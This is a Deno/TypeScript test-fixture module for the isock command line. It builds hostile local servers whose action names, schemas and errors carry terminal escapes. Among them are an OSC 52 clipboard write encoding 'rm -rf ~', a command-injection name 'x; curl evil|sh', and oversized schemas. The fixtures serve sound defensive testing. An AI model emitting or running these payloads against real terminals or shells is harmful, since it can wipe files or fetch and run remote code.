/**
 * Servers that attack the program talking to them, for the command line's
 * tests and `deno task attacks`: a real isock `Server` whose action names,
 * schemas and errors carry terminal escapes, one with a schema whose
 * summary would explode, one with 200,000 actions, and raw peers that
 * answer with an error whose every field is hostile, or with a
 * description no isock server would send.
 *
 * @module
 */

import { type Action, action, Server } from "../mod.ts";
import type { StandardSchemaV1 } from "../src/base/schema.ts";
import type { Message } from "../src/protocol/message_table.ts";
import { MessageType } from "../src/protocol/message_type.ts";
import { FrameDecoder } from "../src/wire/framing.ts";
import { wire } from "./helpers.ts";

/**
 * Terminal controls: set the window title, write the clipboard (`ESC ]52`),
 * clear the screen, ring the bell, return the carriage; CSI as one C1
 * character, and DEL. Then what makes text read other than it is: a bidi
 * override and isolate, a zero-width space, a BOM, the line and paragraph
 * separators; and a literal `\x1b` (four characters) that must not read
 * as an escaped ESC.
 */
export const ESCAPES =
  "\x1b]0;pwned\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x07\r\u009b31m\x7f" +
  "\u202e\u2066\u200b\ufeff\u2028\u2029\\x1b";

/**
 * Any of the characters a terminal acts on or hides: C0 but LF, DEL, C1,
 * format characters (bidi, zero-width, BOM), surrogates, U+2028, U+2029
 * (after decoding UTF-8).
 */
export const CONTROL_BYTES =
  // deno-lint-ignore no-control-regex -- matching them is the point.
  /[\x00-\x09\x0b-\x1f\x7f-\x9f\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

/** A schema that takes anything and says its JSON Schema is `json`. */
export function claimingSchema(
  json: unknown,
  issue?: string,
): StandardSchemaV1<unknown, unknown> {
  const standard = {
    version: 1,
    vendor: "hostile",
    validate: (value: unknown) =>
      issue === undefined
        ? { value }
        : { issues: [{ message: issue, path: [issue] }] },
    jsonSchema: { input: () => json, output: () => json },
  };
  return { "~standard": standard } as StandardSchemaV1<unknown, unknown>;
}

/** A name with {@linkcode ESCAPES} inside. */
export const HOSTILE_NAME = `evil${ESCAPES}name`;

/** A name a shell would run as commands, were it pasted unquoted. */
export const SHELL_NAME = "x; curl evil|sh 'quoted'";

/**
 * Actions whose names, schemas (property names, type words, descriptions,
 * enum values) and errors (message, name, fields, issues) carry
 * {@linkcode ESCAPES}: `evil…name` fails with an ACTION_FAILED,
 * `refuses` with INVALID_INPUT, `says` returns them; and
 * {@linkcode SHELL_NAME}, which returns null.
 */
export function hostileActions(): Action<never, unknown>[] {
  const schema = {
    type: "object",
    description: `multi\nline ${ESCAPES}`,
    properties: {
      [`key${ESCAPES}`]: { type: `word${ESCAPES}` },
      [`tag${ESCAPES}`]: { enum: [`one${ESCAPES}`, "two"] },
    },
    required: [`key${ESCAPES}`],
  };
  return [
    action(HOSTILE_NAME, { input: claimingSchema(schema) }, (): never => {
      const error = new Error(`message\nline two ${ESCAPES}`);
      error.name = `Name${ESCAPES}`;
      Object.assign(error, { [`field${ESCAPES}`]: ESCAPES });
      throw error;
    }),
    action("refuses", {
      input: claimingSchema({ type: "string" }, `issue${ESCAPES}`),
    }, () => null),
    action("says", () => ({ [`key${ESCAPES}`]: `value${ESCAPES}` })),
    action(SHELL_NAME, () => null),
  ] as unknown as Action<never, unknown>[];
}

/**
 * A small schema with a large summary, if each entry of a type list walked
 * its subschema again: `levels` times `{ type: [12 × "array"], items }`.
 */
export function explodingSchema(levels = 8): unknown {
  let schema: unknown = { type: "string" };
  for (let level = 0; level < levels; level++) {
    schema = { type: Array(12).fill("array"), items: schema };
  }
  return schema;
}

/** A real server on 127.0.0.1, port 0, with these actions; `await using` shuts it down. */
export async function hostileServer(
  actions: readonly Action<never, unknown>[],
): Promise<Server & { target: string }> {
  const server = new Server({ hostname: "127.0.0.1", port: 0 });
  for (const item of actions) server.addAction(item);
  const { port } = await server.listen();
  return Object.assign(server, { target: `127.0.0.1:${port}` });
}

/** `count` actions that echo, named `a0`, `a1`…: a description of about 30 bytes each. */
export function manyActions(count: number): Action<never, unknown>[] {
  return Array.from(
    { length: count },
    (_, n) => action(`a${n}`, (data: unknown) => data),
  ) as unknown as Action<never, unknown>[];
}

/** The action `exploding` whose input and output say they are {@linkcode explodingSchema}. */
export function explodingAction(): Action<never, unknown> {
  const schema = claimingSchema(explodingSchema());
  return action(
    "exploding",
    { input: schema, output: schema },
    (x) => x,
  ) as unknown as Action<never, unknown>;
}

/**
 * A raw peer on 127.0.0.1 that says hello and answers every request with
 * an error whose code, name, message, issues and fields all carry
 * {@linkcode ESCAPES}: what no isock server sends, but any server may.
 */
export function rawErrorServer(): AsyncDisposable & { target: string } {
  const error = {
    code: `CODE${ESCAPES}`,
    name: `Name${ESCAPES}`,
    message: `message${ESCAPES}`,
    issues: [{ message: `issue${ESCAPES}`, path: [`path${ESCAPES}`] }],
    fields: { [`field${ESCAPES}`]: ESCAPES },
  };
  return rawServer((id) => [MessageType.ERROR, id, error]);
}

/**
 * A raw peer on 127.0.0.1 that answers a describe request with
 * `description`, which no isock server would send (values JSON cannot
 * hold, say), and any other request with UNKNOWN_ACTION.
 */
export function rawDescribeServer(
  description: unknown,
): AsyncDisposable & { target: string } {
  return rawServer((id, action) =>
    action === "$isock.describe"
      ? [MessageType.RESULT, id, description]
      : [MessageType.ERROR, id, {
        code: "UNKNOWN_ACTION",
        name: "RemoteError",
        message: `No action named "${action}" here.`,
      }]
  );
}

/** A raw peer that says hello and answers each request with the message `answer` gives. */
function rawServer(
  answer: (id: number, action: string) => readonly unknown[],
): AsyncDisposable & { target: string } {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const conns = new Set<Deno.Conn>();
  const serving: Promise<void>[] = [];
  const serve = async (conn: Deno.Conn) => {
    conns.add(conn);
    const decoder = new FrameDecoder({ maxFrameSize: 1 << 20 });
    const buffer = new Uint8Array(64 * 1024);
    let isHello = true;
    try {
      await writeAll(conn, wire.hello());
      for (let count = await conn.read(buffer); count !== null;) {
        const answers: Uint8Array[] = [];
        decoder.push(buffer.subarray(0, count), (body) => {
          if (isHello) {
            isHello = false;
            return;
          }
          const message: Message = wire.codec.decode(body.slice());
          if (message.type === MessageType.REQUEST) {
            answers.push(wire.message(answer(message.id, message.action)));
          }
        });
        for (const answer of answers) await writeAll(conn, answer);
        count = await conn.read(buffer);
      }
    } catch {
      // The client went away, or the test closed it.
    } finally {
      conns.delete(conn);
      try {
        conn.close();
      } catch {
        // Already closed.
      }
    }
  };
  const accepting = (async () => {
    try {
      for await (const conn of listener) serving.push(serve(conn));
    } catch {
      // Closed.
    }
  })();
  return {
    target: `127.0.0.1:${listener.addr.port}`,
    async [Symbol.asyncDispose]() {
      listener.close();
      await accepting;
      for (const conn of conns) conn.close();
      await Promise.all(serving);
    },
  };
}

async function writeAll(conn: Deno.Conn, bytes: Uint8Array): Promise<void> {
  for (let at = 0; at < bytes.length;) {
    at += await conn.write(bytes.subarray(at));
  }
}
